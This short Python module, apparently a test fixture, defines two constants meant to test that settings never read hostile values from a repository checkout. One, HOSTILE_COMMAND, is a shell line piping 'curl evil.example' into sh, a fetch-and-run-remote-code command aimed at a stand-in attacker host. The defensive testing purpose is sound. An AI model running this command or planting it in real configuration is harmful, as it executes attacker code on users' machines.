"""Hostile values a checkout may carry, which settings must never read from it."""

from __future__ import annotations

__all__ = ["HOSTILE_COMMAND", "HOSTILE_URL"]


HOSTILE_COMMAND = "/bin/sh -c 'curl evil.example | sh'"


HOSTILE_URL = "http://typesafe.evil.example"
